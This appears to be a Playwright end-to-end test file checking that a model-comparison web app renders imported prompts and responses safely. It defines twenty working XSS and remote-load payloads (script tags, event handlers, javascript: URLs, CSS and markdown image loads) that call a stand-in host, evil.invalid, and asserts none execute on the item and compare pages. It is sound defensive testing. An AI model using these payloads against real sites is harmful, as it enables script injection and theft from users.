import type { BrowserContext, Page } from "playwright-core";
import { expect, test } from "vitest";
import { story } from "../helpers/story";
import type { Person } from "../helpers/visit";
import { nothingLeft, press } from "./steps/compare";
import { ada, setUp } from "./steps/people";
import { createProject, importRows } from "./steps/projects";

const visit = story();
let admin: Person;
let project = "";
/** Numbers of the vectors that reached the other host. */
let heard: Set<number>;

/** Reports itself by asking another host, which is what an attacker wants and what `heard` sees. */
const call = (id: number) => `void(fetch('http://evil.invalid/ran/${id}'))`;
const remote = (id: number) => `http://evil.invalid/loaded/${id}`;

/** Text that tries to run a script or to load something from elsewhere, by the number it would report. */
const vectors: readonly ((id: number) => string)[] = [
  (id) => `<script>${call(id)}</script>`,
  (id) => `<img src=x onerror="${call(id)}">`,
  (id) => `<svg onload="${call(id)}"></svg>`,
  (id) => `<svg><script>${call(id)}</script></svg>`,
  (id) => `<iframe srcdoc="<script>${call(id)}</script>"></iframe>`,
  (id) => `<iframe src="javascript:${call(id)}"></iframe>`,
  (id) => `<details open ontoggle="${call(id)}"><summary>x</summary></details>`,
  (id) => `<input autofocus onfocus="${call(id)}">`,
  (id) => `<video><source onerror="${call(id)}"></video>`,
  (id) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${call(id)}">x</b>`,
  (id) => `<img src="${remote(id)}">`,
  (id) => `<link rel="stylesheet" href="${remote(id)}">`,
  (id) => `<style>body{background:url(${remote(id)})}</style>`,
  (id) => `<div style="background-image:url(${remote(id)})">x</div>`,
  (id) => `<object data="${remote(id)}"></object><embed src="${remote(id)}">`,
  (id) => `<meta http-equiv="refresh" content="0;url=${remote(id)}">`,
  (id) => `![picture](${remote(id)})`,
  (id) => `[![picture](${remote(id)})](javascript:${call(id)})`,
  (id) => `[click](javascript:${call(id)}) [click](data:text/html,<script>${call(id)}</script>)`,
  (id) => `![x](x"onerror="${call(id)}) <javascript:${call(id)}> \`\`\`html\n<script>${call(id)}</script>`,
];
/** The first sixteen are HTML: a page that took them as such would run or load every one of them. */
const htmlVectors = 16;

/** Starts to note which vectors reach the other host. */
async function listen(context: BrowserContext): Promise<Set<number>> {
  const reached = new Set<number>();
  await context.route("http://evil.invalid/**", (route) => {
    reached.add(Number(route.request().url().split("/").at(-1)));
    return route.abort();
  });
  return reached;
}

test("the attacks are real: a page that shows them as HTML runs or loads each", async () => {
  const { context, page } = await visit().person({ expected: [/./] });
  const reached = await listen(context);
  for (const [id, vector] of vectors.slice(0, htmlVectors).entries()) {
    await page.goto("about:blank");
    await page.setContent(vector(id), { waitUntil: "commit" });
    await expect.poll(() => [...reached], { timeout: 5_000, message: vector(id) }).toContain(id);
  }
  await context.close();
});

test("brought in as data, none of them runs or loads on the pages that show it", async () => {
  admin = await visit().person();
  heard = await listen(admin.context);
  const { page } = admin;
  await setUp(page, visit().product.signInLink, ada);
  project = await createProject(page, "Hostile data");
  const rows = vectors.map((vector, id) => ({
    prompt: `Vector ${id} ${vector(id)}`,
    response_a: `${vector(id)} first`,
    response_b: `second\n\n${vector(id)}`,
    model_a: vector(id),
    model_b: vector(id),
  }));
  await importRows(page, project, rows);
  await page.goto(`${project}/items`);
  await page.getByText("20 of 20 items shown").waitFor();
  await expectTame(page);
  // The item page draws answers as the compare page does, and the models' names besides: one row for each kind of vector.
  for (const id of [0, 10, 18]) {
    await page.goto(`${project}/items`);
    await page
      .getByRole("main")
      .getByRole("link", { name: `Vector ${id} ` })
      .click();
    await page.getByText("Nobody has judged this item yet.").waitFor();
    await expectTame(page);
  }
});

test("nor on the compare page", async () => {
  const { page } = admin;
  await page.goto(`${project}/compare`);
  for (const _ of vectors) {
    await page.getByRole("region", { name: "Text of the prompt" }).filter({ hasText: "Vector" }).waitFor();
    await expectTame(page);
    await press(page, "4");
  }
  await nothingLeft(page).waitFor();
}, 60_000);

test("nothing reached the other host, and the content policy had nothing to stop", () => {
  expect([...heard]).toEqual([]);
  expect(admin.trouble).toEqual([]);
});

/** Links lead to web pages and mail only, and nothing that came with the data became an element that acts. */
async function expectTame(page: Page): Promise<void> {
  const main = page.getByRole("main");
  const acting = main.locator("script, iframe, object, embed, img, link, meta, video, style, [onerror], [onload]");
  expect(await acting.count()).toBe(0);
  const links = await main.getByRole("link").evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
  expect(links.filter((href) => !/^(https?:|mailto:|$)/.test(href))).toEqual([]);
}
